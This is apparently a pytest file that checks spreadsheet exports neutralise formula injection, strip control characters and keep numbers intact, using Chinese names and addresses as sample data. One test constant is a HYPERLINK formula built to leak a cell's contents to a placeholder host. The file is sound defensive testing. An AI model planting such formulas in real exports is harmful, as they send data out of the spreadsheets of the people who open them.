"""One door for exported cells (issue 11 items 3 and 4): text that a spreadsheet would take for
a formula is written as text, control characters already stored are dropped, and numbers stay
numbers — in the xlsx and csv exports of every module."""

from __future__ import annotations

import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from huimin.core.models import Person
from huimin.core.spreadsheets import csv_row, xlsx_bytes

INJECTION = '=HYPERLINK("http://x.invalid/?leak="&A1,"点此")'


def _cells(content: bytes, sheet: str | None = None) -> list[list[object]]:
    workbook = load_workbook(io.BytesIO(content))
    ws = workbook[sheet] if sheet else workbook.active
    return [[cell for cell in row] for row in ws.iter_rows()]


@pytest.mark.parametrize(
    "text", [INJECTION, "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"]
)
def test_formula_like_text_is_a_quoted_text_cell_in_xlsx(text):
    content = xlsx_bytes("t", ["列"], [[text]])

    cell = _cells(content)[1][0]
    # XML reads a carriage return back as a line feed
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text.replace("\r", "\n"), "s", True)


def test_numbers_dates_and_plain_text_pass_unchanged_in_xlsx():
    content = xlsx_bytes("t", ["a", "b", "c", "d"], [[-3, Decimal("-12.50"), "王丽", None]])

    row = _cells(content)[1]
    assert [(c.value, c.data_type) for c in row] == [
        (-3, "n"),
        (-12.5, "n"),
        ("王丽", "s"),
        (None, "n"),
    ]
    assert row[2].quotePrefix is False


def test_control_characters_are_dropped_from_exported_text():
    content = xlsx_bytes("t", ["姓名", "地址"], [["王\x1b丽", "北城\x01街道\u0085 1号\n2室"]])

    assert [c.value for c in _cells(content)[1]] == ["王丽", "北城街道 1号\n2室"]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+86 138", "'+86 138"),
        ("-1+1", "'-1+1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("王\x1b丽", "王丽"),
        ("6228480012345678901", "6228480012345678901"),
        (-3, "-3"),
        (Decimal("-12.50"), "-12.50"),
        (Decimal("3600.00"), "3600.00"),
        (dt.date(2025, 9, 1), "2025-09-01"),
        (None, ""),
    ],
)
def test_csv_cells_neutralise_formulas_and_keep_numbers(value, written):
    assert csv_row([value]) == [written]


def test_people_export_writes_a_formula_name_as_text_and_survives_control_characters(
    client, wanrong_official, make_person
):
    make_person("140822101", name=INJECTION)
    make_person("140822101", name="李\x1b秀英", bank_name="=1+1")
    client.force_login(wanrong_official)

    response = client.get("/people/export.xlsx")

    assert response.status_code == 200
    rows = _cells(response.content)[1:]
    names = {row[0].value: row for row in rows}
    assert set(names) == {INJECTION, "李秀英"}
    assert (names[INJECTION][0].data_type, names[INJECTION][0].quotePrefix) == ("s", True)
    bank = names["李秀英"][6]
    assert (bank.value, bank.data_type, bank.quotePrefix) == ("=1+1", "s", True)
    assert Person.objects.count() == 2
